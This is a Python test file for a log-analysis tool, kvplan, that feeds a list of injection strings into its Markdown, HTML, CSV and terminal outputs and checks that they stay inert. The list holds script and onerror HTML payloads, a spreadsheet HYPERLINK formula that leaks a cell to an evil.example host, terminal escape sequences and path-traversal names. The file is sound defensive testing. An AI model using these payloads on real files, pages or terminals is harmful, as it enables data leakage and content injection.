"""Text from logs, manifests and file names stays data in every output (issue 25, part 1).

Each output (``SUMMARY.md``, the report's HTML and a notebook page, ``ledger.csv`` of a bundle and of
``kvplan ledger --csv``, a command's terminal lines, a path under ``--out``) is fed the corpus of hostile
strings below in every field that comes from a file; the structure of the output (Markdown rendered to
HTML elements, CSV rows and columns, terminal lines, paths) must be the one a benign string gives, and the
hostile text must still be there to read, as text.
"""

import copy
import csv
import html
import io
import json
import re
from collections import Counter
from html.parser import HTMLParser
from pathlib import Path

import mistune
import nbformat
import pytest

from kvplan import evidence
from kvplan.checks import Check, format_checks
from kvplan.cli import main
from kvplan.cli.common import format_table, print_error, print_warnings
from kvplan.escape import FORMULA_START, is_safe_component, path_inside, safe_component, shown_controls
from kvplan.evidence.render import summary_markdown, under_load_lines
from kvplan.io.ledger_frame import ledger_csv_text
from kvplan.notebook.headlines import warnings_markdown
from kvplan.notebook.pages import Page, write_pages
from kvplan.notebook.report import index_html
from kvplan.plan import Policy, decide_rooms
from tests.conftest import SAMPLE_LOG, GiB

#: What issue 25's adversarial round fed kvplan, and more of the same kind.
HOSTILE = [
    "<!--",
    "<img src=x onerror=alert(1)>",
    "llama\n# KV-cache budget: 40 GiB",
    "x\r\n| 0 | 40 GiB |",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tcmd",
    "\rcmd",
    "\x1b[2J\x1b[31mred\x1b[0m",
    "bell\x07\x08\x7f",
    "../../../escaped",
    "a|b|c",
    "``code``",
    "*bold* _em_ [link](http://evil.example) ![img](x.png)",
    "\u202eevil\u2066",
    "bo\udcffot",  # a non-UTF-8 byte of a file name, as Python decodes it
    "</td></tr></table><script>alert(1)</script>",
    '" onmouseover="alert(1)',
]
BENIGN = "meta-llama/Llama-3.1-70B-Instruct"
#: Any control character but the newline that ends a record.
CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")


class _Tags(HTMLParser):
    """The elements of an HTML text, counted by tag, and whether it holds a comment."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: Counter = Counter()
        self.comments = 0
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.tags[(tag, tuple(name for name, _ in attrs))] += 1

    def handle_comment(self, data):
        self.comments += 1


def markdown_structure(text: str) -> tuple[Counter, int]:
    """The elements (and comments) Markdown ``text`` renders to, as GitHub-like renderers read it."""
    parsed = _Tags(mistune.html(text))
    return parsed.tags, parsed.comments


def html_structure(text: str) -> tuple[Counter, int]:
    parsed = _Tags(text)
    return parsed.tags, parsed.comments


def visible(text: str) -> str:
    """How a hostile string reads once escaped: its control characters as escapes."""
    return shown_controls(text)


@pytest.fixture(scope="module")
def record(tmp_path_factory):
    out = tmp_path_factory.mktemp("bundles")
    assert main(["approve", str(SAMPLE_LOG), "--reserve", "0.9GiB", "--model", "llama-3.1-70b", "--tp", "4",
                 "--approver", "t", "--out", str(out)]) == 0  # fmt: skip
    [bundle] = out.iterdir()
    return evidence.read_bundle(bundle)


def with_text(record: dict, text: str) -> dict:
    """``record`` with ``text`` in every field a file wrote: key values, room sources, checks, paths."""
    changed = copy.deepcopy(record)
    changed["compatibility_key"] = {k: text for k in changed["compatibility_key"]}
    for rank in changed["ranks"]:
        rank["room_source"] = text
    for check in changed["checks"]:
        check["name"], check["detail"] = text, f"{text}; {text}"
    for entry in changed["inputs"]:
        entry["path"], entry["bundle_path"] = f"logs/{text}.log", f"inputs/{text}.log"
    changed["approver"], changed["note"] = text, text
    return changed


@pytest.mark.parametrize("text", HOSTILE)
def test_summary_md_keeps_its_structure(record, text):
    # issue 25: a model name `<!--` hid the checks and the input hashes; a file name with a newline added
    # a fake "# KV-cache budget: 40 GiB" heading
    benign = summary_markdown(with_text(record, BENIGN), "b")
    hostile = summary_markdown(with_text(record, text), "b")
    assert markdown_structure(hostile) == markdown_structure(benign)
    assert hostile.count("\n") == benign.count("\n")
    assert [line for line in hostile.splitlines() if line.startswith("#")] == [
        line for line in benign.splitlines() if line.startswith("#")
    ]
    hostile.encode("utf-8")  # a lone surrogate would make the bundle unwritable
    rendered = html.unescape(re.sub(r"<[^>]+>", "", mistune.html(hostile)))
    assert visible(text) in rendered  # still there to read, as text


@pytest.mark.parametrize("text", HOSTILE)
def test_the_under_load_bullets_keep_their_structure(text):
    def load(source):
        return {
            "sources": [source, "inputs/server.log"], "rows": 40, "start": source, "end": source,
            "duration_s": 408.0, "kv_cache_tokens": 157280, "kv_cache_memory_bytes": 12884377600,
            "approved_kv_cache_tokens": 157280, "peak_kv_cache_usage_pct": 70.1, "peak_kv_cache_tokens": 110253,
            "peak_at": {"source": source, "line": 61, "time": None, "engine": 0}, "max_running": 32,
            "max_waiting": 3, "mean_prompt_tokens_per_s": 1520.5, "mean_generation_tokens_per_s": 689.25,
            "preemptions": 0, "max_preemptions": 0, "oom_events": 0, "error_events": 0, "warnings": [],
            "notes": [source],
        }  # fmt: skip

    benign, hostile = ("\n".join(under_load_lines(load(s))) for s in (BENIGN, text))
    assert markdown_structure(hostile) == markdown_structure(benign)
    assert hostile.count("\n") == benign.count("\n")


@pytest.mark.parametrize("text", HOSTILE)
def test_the_report_index_keeps_its_structure(text):
    # issue 25: a model name reached the HTML report as a live <img onerror=…>
    decision = decide_rooms([13 * GiB, 18 * GiB], Policy(GiB))

    def index(value):
        pages = [Page(value, value, f"{value}.html", f"code/{value}.html")]
        return index_html(decision, pages, value, value, {"folder": value, "approved by": value})

    assert html_structure(index(text)) == html_structure(index(BENIGN))
    assert visible(text) in html.unescape(index(text))


@pytest.mark.parametrize("text", HOSTILE[:3] + HOSTILE[17:19])
def test_a_notebook_page_keeps_its_structure(tmp_path, text):
    # the reader's warnings name files and quote logs; a notebook shows them as Markdown, rendered to HTML
    def page(value, folder):
        notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("show()")])
        output = {"text/markdown": warnings_markdown([f"{value}.log:3: {value}"]), "text/plain": "w"}
        notebook.cells[0].outputs = [nbformat.v4.new_output("display_data", data=output)]
        written = write_pages(notebook, "page", tmp_path / folder)
        return (tmp_path / folder / written.href).read_text(encoding="utf-8")

    benign, hostile = page(BENIGN, "benign"), page(text, "hostile")
    assert html_structure(hostile) == html_structure(benign)


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("text", HOSTILE)
def test_ledger_csv_text_cells_never_run_as_formulas(text):
    # issue 25: `kvplan ledger --csv` carried log text such as =HYPERLINK(…) as a live formula
    def rows(value):
        return [
            {"source": value, "rank": r, "model": value, "process": value, "error": value} for r in (0, 1)
        ]

    benign, hostile = csv_rows(ledger_csv_text(rows(BENIGN))), csv_rows(ledger_csv_text(rows(text)))
    assert [len(row) for row in hostile] == [len(row) for row in benign]
    header = hostile[0]
    for row in hostile[1:]:
        cells = [row[header.index(column)] for column in ("source", "model", "process", "error")]
        assert not any(cell.startswith(FORMULA_START) for cell in cells)
        assert all(cell.removeprefix("'") == text.replace("\r", "\\r") for cell in cells)
        assert row[header.index("rank")] in ("0", "1")  # numbers stay numbers


def test_negative_numbers_are_not_neutralised():
    # a negative suggestion (vLLM prints them) is a number, not a formula: it stays readable as one
    text = ledger_csv_text([{"rank": 0, "suggested_fit_bytes": -10_694_426_624, "model": "-m"}])
    row = dict(zip(*csv_rows(text)))
    assert row["suggested_fit_bytes"] == "-10694426624" and row["model"] == "'-m"


def hostile_log(tmp_path: Path, model: str, name: str = "boot.log") -> Path:
    path = tmp_path / name
    path.write_text(SAMPLE_LOG.read_text().replace(BENIGN, model))
    return path


def test_kvplan_ledger_csv_neutralises_a_formula_from_a_log(tmp_path, capsys):
    # issue 25
    log = hostile_log(tmp_path, '=HYPERLINK("http://evil.example","x")')
    assert main(["ledger", str(log), "--csv"]) == 0
    rows = csv_rows(capsys.readouterr().out)
    models = {row[rows[0].index("model")] for row in rows[1:]}
    assert models == {'\'=HYPERLINK("http://evil.example","x")'}


def test_a_bundle_neutralises_its_ledger_csv_says_so_and_verifies(tmp_path, capsys):
    # issue 25: ledger.csv in a bundle carried =HYPERLINK(…) live; its README line (in SUMMARY.md) says how
    # text cells are written, and verify recomputes it byte for byte
    log = hostile_log(tmp_path, '=HYPERLINK("http://evil.example","x")')
    assert (
        main(["approve", str(log), "--reserve", "0.9GiB", "--approver", "t", "--out", str(tmp_path / "b")])
        == 0
    )
    [bundle] = (tmp_path / "b").iterdir()
    rows = csv_rows((bundle / "ledger.csv").read_text())
    assert {row[rows[0].index("model")] for row in rows[1:]} == {'\'=HYPERLINK("http://evil.example","x")'}
    summary = (bundle / "SUMMARY.md").read_text()
    assert "`ledger.csv` holds the ledger" in summary and "starts with `'`" in summary
    assert json.loads((bundle / "budget.json").read_text())["text_escaping"] == 1
    assert evidence.verify_bundle(bundle) == []


def test_a_model_name_that_opens_a_comment_hides_nothing_in_summary_md(tmp_path):
    # issue 25: `<!--` in the model name of a log hid the checks and the input hashes of SUMMARY.md
    log = hostile_log(tmp_path, "llama<!--")
    assert (
        main(["approve", str(log), "--reserve", "0.9GiB", "--approver", "t", "--out", str(tmp_path / "b")])
        == 0
    )
    [bundle] = (tmp_path / "b").iterdir()
    rendered = mistune.html((bundle / "SUMMARY.md").read_text())
    assert "<!--" not in rendered
    assert "<h2>Checks at approval</h2>" in rendered and "<h2>Inputs</h2>" in rendered


def test_a_file_name_with_a_newline_adds_no_heading(tmp_path):
    # issue 25: a log named "x\n# KV-cache budget: 40 GiB" added that heading to SUMMARY.md
    log = hostile_log(tmp_path, BENIGN, "x\n# KV-cache budget: 40 GiB.log")
    assert (
        main(["approve", str(log), "--reserve", "0.9GiB", "--approver", "t", "--out", str(tmp_path / "b")])
        == 0
    )
    [bundle] = (tmp_path / "b").iterdir()
    summary = (bundle / "SUMMARY.md").read_text()
    assert [line for line in summary.splitlines() if line.startswith("# ")] == [
        "# KV-cache budget: 12 GiB per GPU (`--kv-cache-memory-bytes=12884901888`)"
    ]
    assert "40 GiB" not in "".join(re.findall(r"<h\d>.*?</h\d>", mistune.html(summary)))
    evidence_log = (bundle / "evidence.log").read_text()
    assert not any(line.startswith("# KV-cache budget") for line in evidence_log.splitlines())
    assert evidence.verify_bundle(bundle) == []


def test_approve_refuses_a_non_utf8_file_name_naming_it(tmp_path, capsys):
    # issue 25: `budget` worked, `approve` failed with "'utf-8' codec can't encode character" naming no file
    name = b"bo\xffot.log".decode("utf-8", "surrogateescape")
    log = hostile_log(tmp_path, BENIGN, name)
    assert main(["budget", str(log), "--reserve", "0.9GiB"]) == 0
    capsys.readouterr()
    assert (
        main(["approve", str(log), "--reserve", "0.9GiB", "--approver", "t", "--out", str(tmp_path / "b")])
        == 2
    )
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and err.startswith("error: ")
    assert "bo\\udcffot.log: the file name is not UTF-8" in err
    assert "codec" not in err
    assert not (tmp_path / "b").exists() or not any((tmp_path / "b").iterdir())


@pytest.mark.parametrize("text", HOSTILE)
def test_terminal_lines_stay_one_record_each(text, capsys):
    def printed(value):
        print(format_table([{"rank": 0, "model": value}, {"rank": 1, "model": BENIGN}], ["rank", "model"]))
        print(format_checks([Check(value, True, f"{value}; {value}"), Check("b", False, value)]))
        print_warnings([f"{value}.log:3: {value}"])
        print_error(f"{value}: no boot")
        return capsys.readouterr()

    (out, err), (benign_out, benign_err) = printed(text), printed(BENIGN)
    assert out.count("\n") == benign_out.count("\n") and err.count("\n") == benign_err.count("\n") == 2
    assert not CONTROL.search(out + err)
    (out + err).encode("utf-8")


def test_the_cli_prints_a_hostile_model_on_one_line(tmp_path, capsys):
    # a model name with control characters (the reader keeps a BEL) never reaches the terminal raw
    log = hostile_log(tmp_path, "llama\x07\x1b]0;owned\x07")
    assert main(["ledger", str(log)]) == 0
    assert main(["budget", str(log), "--reserve", "0.9GiB", "--model", "llama-3.1-70b", "--tp", "4"]) == 0
    out, err = capsys.readouterr()
    assert not CONTROL.search(out + err)


@pytest.mark.parametrize("text", HOSTILE)
def test_a_name_from_a_file_never_leaves_the_out_folder(tmp_path, text):
    # issue 25: a manifest host `../../../escaped` wrote a fetched log outside --out (the fleet uses these)
    component = safe_component(text)
    assert is_safe_component(component)
    path = path_inside(tmp_path, component, "boot.log")
    assert tmp_path in path.parents
    assert safe_component(text) == component  # the same label gives the same folder


def test_path_inside_refuses_a_way_out(tmp_path):
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "link").symlink_to(tmp_path)
    for parts in (("..", "x"), ("/etc", "passwd"), ("link", "x"), ("a/../../x",)):
        with pytest.raises(ValueError, match="outside"):
            path_inside(tmp_path / "out", *parts)
    assert path_inside(tmp_path / "out", "gpu-7", "a.log") == tmp_path / "out" / "gpu-7" / "a.log"
